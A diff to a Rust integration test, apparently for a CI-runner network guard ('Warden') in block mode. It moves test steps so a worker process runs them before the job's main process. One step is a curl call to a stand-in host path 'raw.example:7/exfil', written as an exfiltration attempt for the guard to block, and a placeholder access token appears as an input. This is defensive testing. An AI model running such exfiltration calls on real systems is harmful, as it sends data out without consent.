@@ -51,6 +51,24 @@ fn block_mode_job_attributes_steps_reports_and_fails_on_blocked() {
         .input("disable-telemetry", "true")
         .input("token", "ghs_0123456789abcdefghijklmnopqrstuvwxyz");
 
+    let steps = [
+        run(
+            "fetch",
+            format!("{}\n", clients::curl("https://tls.example/fetch", &ca)),
+        ),
+        Step::Uses {
+            id: "__octo_fetcher".into(),
+            repository: "octo/fetcher".into(),
+            reference: "v2".into(),
+            script: format!("{}\n", clients::curl("http://http.example/uses", &ca)),
+        },
+        run(
+            "__run_3",
+            "curl -sS --fail --max-time 10 http://raw.example:7/exfil\n".into(),
+        ),
+    ];
+    // The worker runs before main, as on a real runner: Warden finds it through /proc.
+    let worker = job.spawn_worker(&steps).unwrap();
     let main = job.main().unwrap();
     let said = format!("{main:?}\n{}", job.describe());
     assert!(main.status.success(), "main failed:\n{said}");
@@ -80,23 +98,8 @@ fn block_mode_job_attributes_steps_reports_and_fails_on_blocked() {
         .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777);
     assert_eq!(mode.ok(), Some(0o700), "{dir} is not root-only:\n{said}");
 
-    let steps = [
-        run(
-            "fetch",
-            format!("{}\n", clients::curl("https://tls.example/fetch", &ca)),
-        ),
-        Step::Uses {
-            id: "__octo_fetcher".into(),
-            repository: "octo/fetcher".into(),
-            reference: "v2".into(),
-            script: format!("{}\n", clients::curl("http://http.example/uses", &ca)),
-        },
-        run(
-            "__run_3",
-            "curl -sS --fail --max-time 10 http://raw.example:7/exfil\n".into(),
-        ),
-    ];
-    let ran = job.steps(&steps, T).unwrap();
+    job.go().unwrap();
+    let ran = worker.wait_timeout(T).unwrap();
     let said = format!("{ran:?}\n{}", job.describe());
     assert!(ran.stdout.contains("step fetch exit 0"), "{said}");
     assert!(ran.stdout.contains("step __octo_fetcher exit 0"), "{said}");
